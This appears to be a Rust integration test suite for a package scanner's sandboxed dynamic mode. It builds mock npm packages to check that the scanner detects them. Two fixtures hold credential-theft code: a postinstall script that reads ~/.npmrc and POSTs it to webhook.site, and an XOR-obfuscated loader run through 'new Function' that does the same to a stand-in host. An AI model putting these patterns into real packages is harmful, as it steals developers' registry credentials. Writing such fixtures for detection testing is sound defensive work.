//! `palisade scan --dynamic` end to end: the static analyzer and the sandbox on the same
//! packages, merged. The packages are harmless imitations written here (their "exfiltration"
//! goes to the sandbox's fake network). Skips (with the reason) where user namespaces are
//! unavailable, except under CI=true, where the sandbox must run.

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

fn palisade(args: &[&str], envs: &[(&str, &str)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_palisade"));
    command.args(args).env(
        "PALISADE_HOME",
        std::env::temp_dir().join("palisade-scan-dynamic-test-home"),
    );
    for (key, value) in envs {
        command.env(key, value);
    }
    command
        .output()
        .unwrap_or_else(|error| panic!("running palisade: {error}"))
}

fn supported() -> bool {
    match palisade_sandbox::check_support() {
        Ok(()) => true,
        Err(error) if std::env::var("CI").as_deref() == Ok("true") => panic!("the sandbox must run on CI: {error}"),
        Err(error) => {
            eprintln!("skipping: {error}");
            false
        }
    }
}

fn write(dir: &Path, files: &[(&str, &str)]) {
    std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
    for (name, text) in files {
        std::fs::write(dir.join(name), text).unwrap_or_else(|e| panic!("{e}"));
    }
}

/// Reads the canary ~/.npmrc in its postinstall and POSTs it to webhook.site: visible to both.
fn exfil_package(dir: &Path) {
    write(
        dir,
        &[
            (
                "package.json",
                r#"{"name": "dyn-exfil", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node setup.js"}}"#,
            ),
            ("index.js", "module.exports = 1;\n"),
            (
                "setup.js",
                "const fs = require('fs');\nconst os = require('os');\nconst http = require('http');\n\
                 const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
                 const req = http.request({ hostname: 'webhook.site', path: '/palisade-test', method: 'POST' }, () => {});\n\
                 req.on('error', () => {});\nreq.write(JSON.stringify({ npmrc }));\nreq.end();\n",
            ),
        ],
    );
}

/// Its entry point XOR-decodes a hex string and runs it with `new Function`: the decoded code
/// reads ~/.npmrc and POSTs it, which only the sandbox sees.
fn hidden_package(dir: &Path) {
    let code = "const s=require('fs').readFileSync(require('os').homedir()+'/.npmrc','utf8');\
                require('http').request({hostname:'metrics.hidden-test.example',port:80,path:'/m',method:'POST'},()=>{})\
                .on('error',()=>{}).end(s);";
    let encoded: String = code.bytes().map(|b| format!("{:02x}", b ^ 7)).collect();
    let index = format!(
        "const d = '{encoded}';\nlet o = '';\n\
         for (let i = 0; i < d.length; i += 2) o += String.fromCharCode(parseInt(d.substr(i, 2), 16) ^ 7);\n\
         module.exports = new Function('require', o)(require);\n"
    );
    write(
        dir,
        &[
            (
                "package.json",
                r#"{"name": "dyn-hidden", "version": "1.0.0", "main": "index.js"}"#,
            ),
            ("index.js", &index),
        ],
    );
}

fn clean_package(dir: &Path) {
    write(
        dir,
        &[
            (
                "package.json",
                r#"{"name": "dyn-clean", "version": "1.0.0", "main": "index.js"}"#,
            ),
            ("index.js", "module.exports = function add(a, b) { return a + b; };\n"),
        ],
    );
}

/// `dir/package` packed as `dir/name.tgz`.
fn tarball(dir: &Path, name: &str) -> String {
    let path = dir.join(format!("{name}.tgz"));
    let status = Command::new("tar")
        .args([
            "czf",
            &path.display().to_string(),
            "-C",
            &dir.display().to_string(),
            "package",
        ])
        .status()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(status.success());
    path.display().to_string()
}

fn capabilities(list: &Value) -> Vec<String> {
    list.as_array()
        .map(|items| {
            items
                .iter()
                .filter_map(|item| item["capability"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

fn result<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["results"]
        .as_array()
        .and_then(|results| results.iter().find(|r| r["package"]["name"] == name))
        .unwrap_or_else(|| panic!("no result for {name}: {report}"))
}

fn rules(result: &Value) -> Vec<String> {
    result["findings"]
        .as_array()
        .map(|findings| {
            findings
                .iter()
                .filter_map(|f| f["rule"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn json_merges_static_and_dynamic_and_shows_the_agreement() {
    if !supported() {
        return;
    }
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let exfil = dir.path().join("exfil");
    exfil_package(&exfil);
    hidden_package(&dir.path().join("package"));
    let hidden = tarball(dir.path(), "dyn-hidden-1.0.0");
    let clean = dir.path().join("clean");
    clean_package(&clean);
    let (exfil, clean) = (exfil.display().to_string(), clean.display().to_string());

    // Static alone: the hidden package looks clean.
    let output = palisade(&["scan", &hidden, "--format", "json"], &[]);
    let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(report["results"][0]["verdict"], "clean", "{report}");
    assert!(report["results"][0].get("dynamic").is_none());

    let output = palisade(
        &[
            "scan",
            &exfil,
            &hidden,
            &clean,
            "--dynamic",
            "--format",
            "json",
            "-j",
            "2",
        ],
        &[],
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"));

    // Both agree: malicious; the credentials and the network are seen on both sides.
    let exfil = result(&report, "dyn-exfil");
    assert_eq!(exfil["verdict"], "malicious", "{exfil}");
    assert_eq!(exfil["dynamic"]["verdict"], "malicious");
    assert_eq!(exfil["dynamic"]["static_verdict"], "malicious");
    let both = capabilities(&exfil["dynamic"]["agreement"]["both"]);
    for capability in ["credentials", "network", "install-script", "filesystem"] {
        assert!(
            both.iter().any(|c| c == capability),
            "{capability} not in both: {exfil}"
        );
    }
    assert!(exfil["dynamic"]["agreement"]["dynamic_only"]
        .as_array()
        .is_some_and(Vec::is_empty));
    let rules_seen = rules(exfil);
    assert!(rules_seen.iter().any(|r| r == "exfil-sink"), "{rules_seen:?}");
    assert!(
        rules_seen.iter().any(|r| r == "sandbox-network-exfil"),
        "{rules_seen:?}"
    );
    assert!(exfil["dynamic"]["events_count"].as_u64().is_some_and(|n| n > 0));
    assert!(exfil["dynamic"]["stages"]
        .as_array()
        .is_some_and(|stages| stages.iter().any(|s| s["name"] == "postinstall")));

    // Only the sandbox sees what is decoded at run time; the worse verdict wins.
    let hidden = result(&report, "dyn-hidden");
    assert_eq!(hidden["verdict"], "malicious", "{hidden}");
    assert_eq!(hidden["dynamic"]["static_verdict"], "clean");
    assert_eq!(hidden["dynamic"]["verdict"], "malicious");
    let dynamic_only = capabilities(&hidden["dynamic"]["agreement"]["dynamic_only"]);
    assert!(
        dynamic_only.iter().any(|c| c == "network") && dynamic_only.iter().any(|c| c == "credentials"),
        "{hidden}"
    );
    assert!(capabilities(&hidden["dynamic"]["agreement"]["both"]).is_empty());
    assert!(rules(hidden).iter().any(|r| r == "sandbox-network-exfil"));
    let dynamic_rules = rules(&hidden["dynamic"]);
    assert!(
        dynamic_rules.iter().all(|r| r.starts_with("sandbox-")),
        "{dynamic_rules:?}"
    );

    // Clean on both sides.
    let clean = result(&report, "dyn-clean");
    assert_eq!(clean["verdict"], "clean", "{clean}");
    assert_eq!(clean["dynamic"]["verdict"], "clean");
    assert!(clean["dynamic"]["findings"].as_array().is_some_and(Vec::is_empty));
    assert!(clean["dynamic"].get("error").is_none());
}

#[test]
fn table_and_sarif_include_the_sandbox() {
    if !supported() {
        return;
    }
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let hidden = dir.path().join("hidden");
    hidden_package(&hidden);
    let hidden = hidden.display().to_string();

    let output = palisade(&["scan", &hidden, "--dynamic"], &[]);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{stdout}");
    assert!(stdout.starts_with("MALICIOUS   dyn-hidden@1.0.0"), "{stdout}");
    assert!(stdout.contains("sandbox-network-exfil"), "{stdout}");
    assert!(stdout.contains("sandbox: malicious (static: clean)"), "{stdout}");
    assert!(stdout.contains("steps: load exit 0"), "{stdout}");
    assert!(
        stdout.contains("sandbox only (not visible to static analysis): network (sandbox-network-connect"),
        "{stdout}"
    );

    let output = palisade(&["scan", &hidden, "--dynamic", "--format", "sarif"], &[]);
    assert_eq!(output.status.code(), Some(1));
    let sarif: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}"));
    let run = &sarif["runs"][0];
    let results = run["results"].as_array().cloned().unwrap_or_default();
    assert!(
        results.iter().any(|r| r["ruleId"] == "sandbox-network-exfil"),
        "{sarif}"
    );
    let rule = run["tool"]["driver"]["rules"]
        .as_array()
        .and_then(|rules| rules.iter().find(|r| r["id"] == "sandbox-network-exfil"))
        .unwrap_or_else(|| panic!("no sandbox rule in {sarif}"));
    assert!(rule["shortDescription"]["text"]
        .as_str()
        .is_some_and(|text| text.contains("canary")));
}

#[test]
fn a_package_the_sandbox_cannot_run_is_not_silently_static_only() {
    if !supported() {
        return;
    }
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let clean = dir.path().join("clean");
    clean_package(&clean);
    // No node on PATH: the sandbox cannot run the package.
    let output = palisade(
        &["scan", &clean.display().to_string(), "--dynamic", "--format", "json"],
        &[("PATH", "/nonexistent")],
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("not run in the sandbox"), "{stderr}");
    let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}"));
    let dynamic = &report["results"][0]["dynamic"];
    assert_eq!(dynamic["verdict"], Value::Null, "{report}");
    assert!(
        dynamic["error"].as_str().is_some_and(|e| e.contains("node")),
        "{report}"
    );

    let output = palisade(
        &["scan", &clean.display().to_string(), "--dynamic", "--allow-partial"],
        &[("PATH", "/nonexistent")],
    );
    assert_eq!(output.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&output.stdout).contains("sandbox: not run"));
}

#[test]
fn without_a_sandbox_dynamic_is_a_usage_error() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let clean = dir.path().join("clean");
    clean_package(&clean);
    let output = palisade(&["scan", &clean.display().to_string(), "--dynamic"], &[]);
    match palisade_sandbox::check_support() {
        Err(error) => {
            let stderr = String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(2), "{stderr}");
            assert!(stderr.contains(&error.to_string()), "{stderr}");
            assert!(output.stdout.is_empty(), "no static-only report");
        }
        Ok(()) => assert_eq!(output.status.code(), Some(0)),
    }
}

#[test]
fn zip_targets_are_never_run() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let zip = dir.path().join("packages.zip");
    // Not even read: refused before anything is scanned or run.
    std::fs::write(&zip, b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0").unwrap_or_else(|e| panic!("{e}"));
    let output = palisade(&["scan", &zip.display().to_string(), "--dynamic"], &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("zip"), "{stderr}");
    assert!(output.stdout.is_empty());
}

/// The files of `dir` packed under `package/` in memory.
fn pack(dir: &Path) -> Vec<u8> {
    let encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut builder = tar::Builder::new(encoder);
    builder.append_dir_all("package", dir).unwrap_or_else(|e| panic!("{e}"));
    builder
        .into_inner()
        .and_then(|encoder| encoder.finish())
        .unwrap_or_else(|e| panic!("{e}"))
}

/// A loopback server answering `routes` (path → body), 404 otherwise, until the test ends.
fn serve(routes: std::collections::HashMap<String, Vec<u8>>) -> String {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let base = format!("http://{}/", listener.local_addr().unwrap_or_else(|e| panic!("{e}")));
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut request = [0u8; 8192];
            let read = stream.read(&mut request).unwrap_or(0);
            let text = String::from_utf8_lossy(&request[..read]);
            let path = text.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let response = match routes.get(&path) {
                Some(body) => {
                    let mut response = format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                        body.len()
                    )
                    .into_bytes();
                    response.extend_from_slice(body);
                    response
                }
                None => b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_vec(),
            };
            let _ = stream.write_all(&response);
        }
    });
    base
}

#[test]
fn lockfile_packages_are_each_run_in_the_sandbox_after_their_integrity_check() {
    if !supported() {
        return;
    }
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    hidden_package(&dir.path().join("hidden"));
    clean_package(&dir.path().join("clean"));
    let hidden = pack(&dir.path().join("hidden"));
    let clean = pack(&dir.path().join("clean"));
    let mut routes = std::collections::HashMap::new();
    routes.insert("/dyn-hidden/-/dyn-hidden-1.0.0.tgz".to_string(), hidden.clone());
    routes.insert("/dyn-clean/-/dyn-clean-1.0.0.tgz".to_string(), clean.clone());
    routes.insert("/dyn-tampered/-/dyn-tampered-1.0.0.tgz".to_string(), hidden.clone());
    let registry = serve(routes);
    let sri =
        |bytes: &[u8]| palisade_registry::Integrity::compute(palisade_registry::Algorithm::Sha512, bytes).to_string();
    let mut packages = serde_json::json!({"": {"name": "p", "version": "1.0.0"}});
    for (name, integrity) in [
        ("dyn-hidden", sri(&hidden)),
        ("dyn-clean", sri(&clean)),
        // Pinned other bytes than those served: neither scanned nor run.
        ("dyn-tampered", sri(b"what was locked")),
    ] {
        packages[format!("node_modules/{name}")] = serde_json::json!({"version": "1.0.0",
            "resolved": format!("{registry}{name}/-/{name}-1.0.0.tgz"), "integrity": integrity});
    }
    let lockfile = serde_json::json!({"name": "p", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": packages});
    let project = dir.path().join("project");
    write(
        &project,
        &[
            ("package-lock.json", &lockfile.to_string()),
            ("package.json", r#"{"name": "p", "version": "1.0.0"}"#),
        ],
    );
    let home = dir.path().join("home");
    let output = Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args([
            "scan",
            ".",
            "--dynamic",
            "-j",
            "2",
            "--format",
            "json",
            "--allow-partial",
        ])
        .current_dir(&project)
        .env("PALISADE_HOME", &home)
        .env("HOME", &home)
        .env("npm_config_cache", home.join("npm-cache"))
        .env_remove("npm_config_registry")
        .env_remove("NPM_CONFIG_REGISTRY")
        .env_remove("npm_config_userconfig")
        .env_remove("NPM_CONFIG_USERCONFIG")
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"));
    let hidden = result(&report, "dyn-hidden");
    assert_eq!(hidden["verdict"], "malicious", "{hidden}");
    assert_eq!(hidden["dynamic"]["static_verdict"], "clean");
    let clean = result(&report, "dyn-clean");
    assert_eq!(clean["verdict"], "clean", "{clean}");
    assert_eq!(clean["dynamic"]["verdict"], "clean");
    let tampered = result(&report, "dyn-tampered");
    assert_eq!(rules(tampered), ["integrity-mismatch"]);
    assert!(tampered.get("dynamic").is_none(), "{tampered}");
}
